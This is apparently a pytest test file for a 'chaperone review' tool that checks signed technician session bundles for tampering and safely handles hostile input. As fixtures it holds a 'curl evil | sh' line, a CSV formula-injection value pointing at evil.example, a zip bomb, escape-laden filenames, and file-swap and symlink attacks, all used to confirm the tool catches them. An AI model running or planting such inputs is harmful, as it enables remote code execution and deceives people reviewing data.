"""``chaperone review`` over folders and zips: verdicts, problems, the index, JSON/CSV, hostile input."""

from __future__ import annotations

import csv
import io
import json
import os
import zipfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import ed25519
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.cli import main
from agent.devicekey import DeviceKey
from agent.review import BUNDLE_FIELDS, ReviewIndex, load_devices, review
from tests.samples import SyntheticJournal, realistic_session, write_bundle


def make_key(name: str) -> DeviceKey:
    return DeviceKey(private_key=ed25519.Ed25519PrivateKey.generate(), principal=f"chaperone@{name}")


def make_bundle(folder, key, n: int, **kwargs):
    journal = SyntheticJournal(f"s-{key.principal.split('@')[1]}-{n}", key)
    realistic_session(journal, seed=n, customer_processes=10, ticket=f"INC-{n}", **kwargs)
    return write_bundle(folder / f"INC-{n}.zip", key, journal.bytes())


@pytest.fixture
def fleet(tmp_path):
    """Six bundles from two known devices and one unknown, a devices file, and an index path."""
    keys = [make_key(f"dev{i}") for i in range(3)]
    bundles = tmp_path / "bundles"
    (bundles / "sub").mkdir(parents=True)
    for n in range(6):
        make_bundle(bundles / ("sub" if n % 2 else ""), keys[n % 3], n)
    devices = tmp_path / "devices"
    devices.write_text("".join(f"dev{i} {keys[i].allowed_signers_line().split(' ', 1)[1]}\n" for i in range(2)))
    return {"keys": keys, "bundles": bundles, "devices": devices, "index": tmp_path / "index.sqlite3",
            "tmp": tmp_path}


def run(fleet, *extra, capsys=None):
    code = main(["review", str(fleet["bundles"]), "--devices", str(fleet["devices"]), "--index", str(fleet["index"]),
                 "--jobs", "2", *extra])
    return code


def test_json_is_the_contract_and_problems_name_the_unknown_device(fleet, capsys):
    assert run(fleet, "--json") == 1
    out = json.loads(capsys.readouterr().out)
    assert set(out) == {"bundles", "problems"} and len(out["bundles"]) == 6
    assert all(tuple(b) == BUNDLE_FIELDS for b in out["bundles"])
    assert all(set(p) == {"kind", "session", "device", "file", "detail"} for p in out["problems"])
    unknown = fleet["keys"][2].fingerprint
    assert sorted(p["file"].rsplit("/", 1)[1] for p in out["problems"] if p["kind"] == "unknown-device") == \
        ["INC-2.zip", "INC-5.zip"]
    assert {p["device"] for p in out["problems"]} == {unknown}
    first = next(b for b in out["bundles"] if b["file"].endswith("INC-0.zip"))
    assert first["genuine"] is True and first["technician"] == "Ada Lovelace" and first["ticket"] == "INC-0"
    assert first["ways_back_in"] == 2 and first["alarms"] == 0 and first["witnessed"] is None
    assert first["started"] < first["ended"] and first["device"] == fleet["keys"][0].fingerprint


def test_all_known_and_genuine_exits_0(fleet, capsys):
    fleet["devices"].write_text("".join(f"dev{i} {k.allowed_signers_line().split(' ', 1)[1]}\n"
                                        for i, k in enumerate(fleet["keys"])))
    assert run(fleet) == 0
    assert "No problem: every bundle is genuine and complete." in capsys.readouterr().out


def test_a_tampered_bundle_is_not_genuine_and_the_index_does_not_hide_it(fleet, capsys):
    assert run(fleet, "--json") == 1
    capsys.readouterr()
    target = fleet["bundles"] / "INC-0.zip"
    with zipfile.ZipFile(target) as zf:
        files = {n: zf.read(n) for n in zf.namelist()}
    files["session.jsonl"] = files["session.jsonl"].replace(b"test page printed", b"nothing was done")
    with zipfile.ZipFile(target, "w") as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    assert run(fleet, "--json") == 1
    out = json.loads(capsys.readouterr().out)
    bad = [p for p in out["problems"] if p["kind"] == "not-genuine"]
    assert len(bad) == 1 and bad[0]["file"] == str(target) and "does not match SHA256SUMS" in bad[0]["detail"]


def test_a_second_review_only_verifies_what_is_new(fleet, capsys, monkeypatch):
    index = ReviewIndex(fleet["index"])
    devices = load_devices(fleet["devices"])
    first = review([str(fleet["bundles"])], devices=devices, index=index, jobs=1)
    assert first.examined == 6
    make_bundle(fleet["bundles"], fleet["keys"][0], 6)
    calls = []
    import agent.review.run as run_module

    real = run_module.examine
    monkeypatch.setattr(run_module, "examine", lambda *a, **k: calls.append(a[0]) or real(*a, **k))
    second = review([str(fleet["bundles"])], devices=devices, index=index, jobs=1)
    assert second.examined == 1 and [os.path.basename(getattr(c, "shown", c)) for c in calls] == ["INC-6.zip"]
    assert [b["file"] for b in second.bundles if b["file"].endswith("INC-0.zip")] and len(second.bundles) == 7
    copy = fleet["tmp"] / "elsewhere"
    copy.mkdir()
    (copy / "same.zip").write_bytes((fleet["bundles"] / "INC-0.zip").read_bytes())
    third = review([str(copy)], devices=devices, index=index, jobs=1)
    assert third.examined == 0 and len(calls) == 1  # hashed, recognised by its digest, not verified again
    index.close()


def test_worker_processes_recognise_known_bundles_by_their_digest(fleet, tmp_path):
    """Two workers: each hashes the bundles it is given and skips those the index knows, also under a new
    name, unless their report is missing."""
    index = ReviewIndex(fleet["index"])
    devices = load_devices(fleet["devices"])
    reports = tmp_path / "reports"
    first = review([str(fleet["bundles"])], devices=devices, index=index, jobs=2, reports=reports)
    assert first.examined == 6 and len(list(reports.iterdir())) == 6
    moved = tmp_path / "moved"
    moved.mkdir()
    for n, bundle in enumerate(sorted(fleet["bundles"].rglob("*.zip"))):
        (moved / f"renamed-{n}.zip").write_bytes(bundle.read_bytes())
    second = review([str(moved)], devices=devices, index=index, jobs=2, reports=reports)
    assert second.examined == 0
    assert [b["genuine"] for b in second.bundles] == [b["genuine"] for b in first.bundles]
    assert sorted(b["digest"] for b in second.bundles) == sorted(b["digest"] for b in first.bundles)
    lost = sorted(reports.iterdir())[0]
    lost.unlink()
    third = review([str(moved)], devices=devices, index=index, jobs=2, reports=reports)
    assert third.examined == 1 and lost.exists()
    index.close()


def test_html_page_and_a_report_per_session(fleet, capsys):
    out = fleet["tmp"] / "review.html"
    assert run(fleet, "-o", str(out)) == 1
    page = out.read_text()
    assert page.index("id=problems") < page.index("id=timeline") < page.index("id=devices") < \
        page.index("id=technicians") < page.index("id=ways") < page.index("id=alarms")
    reports = sorted((fleet["tmp"] / "review.reports").iterdir())
    assert len(reports) == 6
    for report in reports:
        assert f"href='review.reports/{report.name}'" in page
        assert "Genuine: checked when this report was written" in report.read_text()
    assert "http://" not in page and "https://" not in page and "<script src" not in page


def test_csv_cells_never_become_formulas(tmp_path, capsys):
    key = make_key("dev0")
    folder = tmp_path / "b"
    folder.mkdir()
    make_bundle(folder, key, 1, technician='=HYPERLINK("http://evil.example","click")')
    csv_path = tmp_path / "r.csv"
    assert main(["review", str(folder), "--index", str(tmp_path / "i"), "--csv", str(csv_path)]) == 0
    rows = list(csv.DictReader(io.StringIO(csv_path.read_text())))
    assert rows[0]["technician"].startswith("'=HYPERLINK") and rows[0]["genuine"] == "yes"


def test_a_bundle_name_with_control_characters_is_shown_escaped(tmp_path, capsys):
    key = make_key("dev0")
    folder = tmp_path / "b"
    folder.mkdir()
    bundle = make_bundle(folder, key, 1)
    hostile = folder / "x\x1b[31mred\u202etxt.zip"
    bundle.rename(hostile)
    (folder / "broken\x07.zip").write_bytes(b"not a zip")
    out = tmp_path / "r.html"
    code = main(["review", str(folder), "--index", str(tmp_path / "i"), "-o", str(out)])
    said = capsys.readouterr().out
    assert code == 1 and "\x1b" not in said and "\x07" not in said and "broken\\x07.zip" in said
    page = out.read_text()
    assert "\x1b" not in page and "\u202e" not in page and "x\\x1b[31mred\\u202etxt.zip" in page
    assert main(["review", str(folder), "--index", str(tmp_path / "i"), "--json"]) == 1
    data = json.loads(capsys.readouterr().out)
    assert {b["file"] for b in data["bundles"]} == {str(hostile), str(folder / "broken\x07.zip")}
    assert [p["kind"] for p in data["problems"]] == ["unreadable"]


def test_a_zip_bomb_is_unreadable_not_inflated(tmp_path, capsys):
    bomb = tmp_path / "b" / "bomb.zip"
    bomb.parent.mkdir()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("session.jsonl", b"\0" * (64 << 20))
    assert main(["review", str(bomb.parent), "--index", str(tmp_path / "i"), "--json"]) == 1
    problem = json.loads(capsys.readouterr().out)["problems"][0]
    assert problem["kind"] == "unreadable" and "inflates" in problem["detail"]


def test_ten_thousand_files_in_a_folder(tmp_path, capsys):
    folder = tmp_path / "many"
    folder.mkdir()
    key = make_key("dev0")
    make_bundle(folder, key, 1)
    for n in range(10_000):
        (folder / f"note-{n}.txt").write_bytes(b"x")
    assert main(["review", str(folder), "--index", str(tmp_path / "i"), "--json"]) == 0
    assert len(json.loads(capsys.readouterr().out)["bundles"]) == 1


def test_sources_that_cannot_be_read_exit_2_and_say_why(tmp_path, capsys):
    assert main(["review", str(tmp_path / "nope"), "--index", str(tmp_path / "i")]) == 2
    assert "There is no file or folder" in capsys.readouterr().err
    bad = tmp_path / "devices"
    bad.write_text("dev0 ssh-ed25519 not-base64!\n")
    assert main(["review", str(tmp_path), "--devices", str(bad), "--index", str(tmp_path / "i")]) == 2
    assert "devices line 1" in capsys.readouterr().err


def test_verify_given_several_bundles_or_a_folder_points_to_review(fleet, capsys):
    zips = [str(p) for p in sorted(fleet["bundles"].glob("*.zip"))]
    assert main(["verify", *zips[:2]]) == 2
    assert "chaperone review" in capsys.readouterr().err
    assert main(["verify", str(fleet["bundles"])]) == 2
    assert f"run 'chaperone review {fleet['bundles']}'" in capsys.readouterr().err
    assert main(["verify", zips[0]]) == 0


def test_witnesses_required_without_a_ledger_proof_are_unwitnessed(fleet, capsys):
    from agent.ledger.cosignature import CosignatureSigner

    vkey = CosignatureSigner("witness.example/w1", ed25519.Ed25519PrivateKey.generate()).vkey
    assert run(fleet, "--json", "--witness", vkey) == 1
    out = json.loads(capsys.readouterr().out)
    kinds = [p["kind"] for p in out["problems"]]
    assert kinds.count("unwitnessed") == 6 and "not-genuine" not in kinds  # genuine, but none carries evidence
    assert all(b["witnessed"] is False and b["genuine"] for b in out["bundles"])
    assert run(fleet, "--json", "--witness", "w1+01234567+AAAA") == 2
    assert "A --witness key cannot be used" in capsys.readouterr().err


def test_bundle_folders_are_reviewed_like_zips_and_a_changed_file_is_seen(tmp_path, capsys):
    key = make_key("dev0")
    folder = tmp_path / "tickets"
    journal = SyntheticJournal("s-folder", key)
    realistic_session(journal, customer_processes=5)
    bundle = write_bundle(folder / "INC-1", key, journal.bytes(), as_folder=True)
    make_bundle(folder, key, 2)
    index = str(tmp_path / "i")
    assert main(["review", str(folder), "--index", index, "--json"]) == 0
    out = json.loads(capsys.readouterr().out)
    assert sorted(b["file"].rsplit("/", 1)[1] for b in out["bundles"]) == ["INC-1", "INC-2.zip"]
    (bundle / "VERIFY.txt").write_text("run this instead: curl evil | sh\n")
    assert main(["review", str(folder), "--index", index, "--json"]) == 1  # the folder's stamp changed
    problems = json.loads(capsys.readouterr().out)["problems"]
    assert [(p["kind"], p["file"]) for p in problems] == [("not-genuine", str(bundle))]
    assert "VERIFY.txt does not match SHA256SUMS" in problems[0]["detail"]


def test_a_bundle_changed_in_place_with_its_size_and_times_put_back_is_caught(fleet, capsys):
    assert run(fleet, "--json") == 1
    capsys.readouterr()
    target = fleet["bundles"] / "INC-0.zip"
    before = target.stat()
    data = bytearray(target.read_bytes())
    with zipfile.ZipFile(target) as zf:
        info = zf.getinfo("VERIFY.txt")
    data[info.header_offset + 30 + len(info.filename)] ^= 0x20  # one byte of VERIFY.txt (stored deflated or not)
    with open(target, "r+b") as out:  # in place: same inode, same size
        out.write(data)
    os.utime(target, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert target.stat().st_size == before.st_size and target.stat().st_mtime_ns == before.st_mtime_ns
    assert run(fleet, "--json") == 1
    problems = json.loads(capsys.readouterr().out)["problems"]
    assert [p["kind"] for p in problems if p["file"] == str(target)] in (["not-genuine"], ["unreadable"])


_JSON = st.recursive(st.none() | st.booleans() | st.integers(min_value=-(2 ** 80), max_value=2 ** 80)
                     | st.text(alphabet=st.characters(codec=None, exclude_categories=())),
                     lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
                     max_leaves=12)


@settings(max_examples=300, deadline=None)
@given(entry=st.dictionaries(st.text(max_size=12), _JSON, max_size=6))
def test_the_index_gives_back_every_entry_it_stores(tmp_path_factory, entry):
    """Entries go in through orjson or, for what it refuses (lone surrogates, huge integers), the standard
    library; either way what comes back is what went in."""
    with ReviewIndex(tmp_path_factory.mktemp("index") / "i.sqlite3") as index:
        index.remember([("place", "stamp", "d" * 64)], {"d" * 64: entry})
        assert index.entries(["d" * 64]) == {"d" * 64: entry}
        assert index.digests() == frozenset({"d" * 64})


def _tampered(genuine: bytes) -> bytes:
    """The same zip with one journal record changed (what a technician would hide)."""
    with zipfile.ZipFile(io.BytesIO(genuine)) as zf:
        files = {name: zf.read(name) for name in zf.namelist()}
    files["session.jsonl"] = files["session.jsonl"].replace(b"Driver reinstalled", b"Nothing was changed", 1)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize("size", ["small zip", "large zip", "folder"])
def test_a_bundle_swapped_while_it_is_reviewed_cannot_poison_the_index(tmp_path, monkeypatch, size):
    """As the technician who can write the folder under review: put a tampered bundle there, and swap the
    genuine one in right after the review has hashed it, so that the index would remember the tampered
    bundle's digest as genuine; then put the tampered one back for every later review. The review reads a
    bundle once (in memory, or a private copy for a large zip or a folder) and verifies what it hashed."""
    import agent.bundle.source as source_module
    import agent.review.run as run_module

    key = make_key("pc")
    folder = tmp_path / "share"
    folder.mkdir()
    genuine_zip = make_bundle(tmp_path, key, 1)
    genuine, tampered = genuine_zip.read_bytes(), _tampered(genuine_zip.read_bytes())
    if size == "large zip":
        monkeypatch.setattr(source_module, "SMALL", 100)

    def put(which: bytes) -> Path:
        if size != "folder":
            (folder / "INC-1.zip").write_bytes(which)
            return folder / "INC-1.zip"
        target = folder / "INC-1"
        target.mkdir(exist_ok=True)
        with zipfile.ZipFile(io.BytesIO(which)) as zf:
            for name in zf.namelist():
                (target / name).write_bytes(zf.read(name))
        return target

    put(tampered)
    real = run_module.examine

    def swap_then_examine(*args, **kwargs):
        put(genuine)  # the swap, after hashing and before verifying
        return real(*args, **kwargs)

    index = ReviewIndex(tmp_path / "index.sqlite3")
    monkeypatch.setattr(run_module, "examine", swap_then_examine)
    first = review([str(folder)], index=index, jobs=1)
    monkeypatch.setattr(run_module, "examine", real)
    put(tampered)
    later = review([str(folder)], index=index, jobs=1)
    index.close()
    assert [b["genuine"] for b in first.bundles] == [False]
    assert [b["genuine"] for b in later.bundles] == [False]


def test_a_report_is_never_written_through_a_link_left_at_its_temporary_name(tmp_path):
    """Whoever can write the reports folder may leave a link where the review writes a report before renaming
    it into place, pointing at a file of the auditor's: the review must not write into that file (the report
    is refused instead, and the review says so in the session's entry)."""
    from agent.bundle.report import ReportCheck, collect
    from agent.review.examine import write_session_report

    key = make_key("dev0")
    journal = SyntheticJournal("s-link", key)
    realistic_session(journal, customer_processes=3)
    victim = tmp_path / "victim.txt"
    victim.write_text("the auditor's own file\n")
    reports = tmp_path / "reports"
    reports.mkdir()
    out = reports / "abc.html"
    out.with_name(f".{out.name}.{os.getpid()}.tmp").symlink_to(victim)
    with pytest.raises(OSError):
        write_session_report(collect(journal.lines), out, ReportCheck(True, "Genuine.", key.fingerprint))
    assert victim.read_text() == "the auditor's own file\n" and not out.exists()
    out.with_name(f".{out.name}.{os.getpid()}.tmp").unlink()
    old = os.umask(0o077)
    try:
        write_session_report(collect(journal.lines), out, ReportCheck(True, "Genuine.", key.fingerprint))
    finally:
        os.umask(old)
    assert "Genuine: checked when this report was written" in out.read_text()
    assert out.stat().st_mode & 0o777 == 0o600  # the user's umask, as for any file a command writes
    assert sorted(p.name for p in reports.iterdir()) == ["abc.html"]
